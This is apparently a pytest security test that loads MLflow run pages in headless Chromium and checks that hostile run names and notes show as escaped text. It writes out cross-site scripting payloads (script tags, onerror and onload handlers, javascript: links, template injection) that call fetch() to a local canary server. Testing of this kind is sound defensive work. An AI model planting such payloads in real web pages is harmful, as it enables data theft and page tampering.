"""Hostile names in MLflow's own pages, in a real Chromium: shown as text; nothing of them runs."""

import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path

import pytest
from mlflow.tracking import MlflowClient

from desa_ray.printable import printable
from desa_ray.tracking.reports import log_report
from desa_ray.tracking.runs import Tracker
from desa_ray.tracking.sweeps import SweepLog, SweepRun
from tests.hostile import STRINGS, odd
from tests.mlflow_pages import browser
from tests.tracking.test_hostile_values import hostile_cell

BROWSER = browser()
pytestmark = [pytest.mark.slow, pytest.mark.skipif(BROWSER is None, reason="no Chromium found")]


@pytest.fixture
def canary() -> Iterator[tuple[str, list[str]]]:
    """An address that nothing may ask for, and what was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_):
            pass

    server = HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()


def page(address: str, folder: Path) -> str:
    """The elements of a page once its scripts have run."""
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom"]
    flags += [f"--user-data-dir={folder}", "--virtual-time-budget=30000"]
    done = subprocess.run(
        [str(BROWSER), *flags, address], capture_output=True, text=True, timeout=120, check=True
    )
    return done.stdout


def attacks(address: str) -> dict[str, str]:
    """Strings that would ask for the address, or give the page another title, if anything ran."""
    fetch = f"fetch('{address}/'+document.domain);document.title='owned'"
    return {
        "script": f"<script>{fetch}</script>",
        "image": f'<img src="{address}/image">',
        "handler": f'<img src=x onerror="{fetch}">',
        "attribute": f'"><svg onload="{fetch}">',
        "Markdown": f"![x]({address}/markdown)",
        "link": f"[x](javascript:{fetch})",
        "template": f"{{{{constructor.constructor(`{fetch}`)()}}}}",
    }


def test_names_are_text_in_every_page_of_a_run(port, canary, tmp_path):
    address, asked = canary
    tried = {**STRINGS, **attacks(address)}
    uri, name = f"http://127.0.0.1:{port}", "run " + " ".join(tried.values())[:150]
    sweep = SweepRun("hostile", "b" * 64, name, True, tried, dict(tried))
    log = SweepLog(sweep, uri=uri, home=tmp_path / "home", sample_s=0)
    for text in attacks(address).values():
        log.cell(hostile_cell(text))
    log.end("FINISHED", {}, [], [])
    (tmp_path / "report").mkdir()
    (tmp_path / "report" / "index.html").write_text("page")
    log_report(Tracker(uri, tmp_path / "artifacts"), "hostile", tmp_path / "report", tried, {})

    client = MlflowClient(uri)
    (experiment,) = [e for e in client.search_experiments() if "hostile" in e.name]
    runs = client.search_runs([experiment.experiment_id])
    # What somebody else may have written there: MLflow shows such a note as Markdown.
    client.set_tag(runs[0].info.run_id, "mlflow.note.content", attacks(address)["handler"])
    places = [f"/#/experiments/{experiment.experiment_id}/runs"]
    places += [f"{places[0]}/{run.info.run_id}" for run in runs]
    shown = [page(f"{uri}{place}", tmp_path / "profile") for place in places]
    assert asked == []
    for text in shown:
        assert "<title>owned" not in text
        assert "<script>fetch" not in text
        assert odd(text, allowed="\n\t\r\xa0\u200b\u00ad\ufeff\u2060") == []
    # The pages did show what is in question.
    assert any(printable(STRINGS["override"]) in text for text in shown)
    assert any("&lt;script&gt;fetch" in text for text in shown)
